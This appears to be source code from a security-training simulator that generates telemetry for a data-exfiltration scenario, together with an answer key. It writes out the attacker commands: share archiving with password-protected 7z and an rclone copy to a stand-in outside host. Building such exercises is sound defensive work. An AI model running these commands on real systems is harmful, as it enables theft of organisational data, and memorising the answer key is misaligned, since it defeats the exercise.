import { raise } from '../alerts';
import { alarms } from './alarms.data';
import { connect, resolve, touchFile } from '../events';
import { minute, second } from '../window';
import type { Story } from './stage';

const store = { name: 's3.eu-archive.example', ip: '198.51.100.150' };

/** Shares are packed on a server and leave with a tool made for synchronising. */
export const exfiltration: Story = (stage) => {
  const { world, random } = stage;
  const server = stage.server('file');
  const { person, actor } = stage.victim('it');
  const at = stage.when(1, 22, server.device);
  const boot = server.boot(at);
  const shell = server.run('powershell', {
    at,
    parent: boot.host('WinRM'),
    command: 'powershell.exe -Version 5.1 -s -NoLogo',
    account: person,
    integrity: 'High',
    remote: { device: actor.device.short, ip: actor.device.ip },
    images: ['automation', 'clr', 'amsi'],
  });
  const shares = ['finance', 'contracts', 'hr', 'design'];
  let bytes = 0;
  shares.forEach((share, index) => {
    const when = at + (2 + index * 6) * minute;
    const size = random.int(300_000_000, 900_000_000);
    bytes += size;
    const path = `C:\\ProgramData\\sync\\${share}.7z`;
    const pack = server.run('7z', { at: when, parent: shell, command: `7z.exe a -mhe=on -pS3cure ${path} D:\\Shares\\${share}` });
    touchFile(server.act(pack, when + 5 * minute), world.files.add(path, { size }), { ActionType: 'FileCreated' });
  });
  const copyAt = at + 30 * minute;
  const command = 'rclone.exe copy C:\\ProgramData\\sync remote:drop --include *.7z --transfers 8 --no-check-certificate';
  const copy = server.run('rclone', { at: copyAt, parent: shell, command });
  resolve(server.act(copy, copyAt + second), store.name, store.ip);
  const connections = random.int(60, 110);
  for (let index = 0; index < connections; index += 1)
    connect(server.act(copy, copyAt + (2 + index * 9) * second), { ip: store.ip, url: store.name });
  raise(world, {
    ...alarms.exfiltration,
    at: copyAt + 10 * minute,
    evidence: [{ device: server.device }, { device: server.device, process: copy }, { account: person }, { ip: store.ip, url: store.name }],
  });
  return {
    story: `${person.display}'s account packed ${shares.length} shares on ${server.device.short} and sent them to ${store.name} with rclone.`,
    answers: {
      'exfiltration-archives': [[server.device.name, person.name, shares.length, bytes]],
      'exfiltration-copy': [[server.device.name, command, store.name, connections]],
    },
  };
};
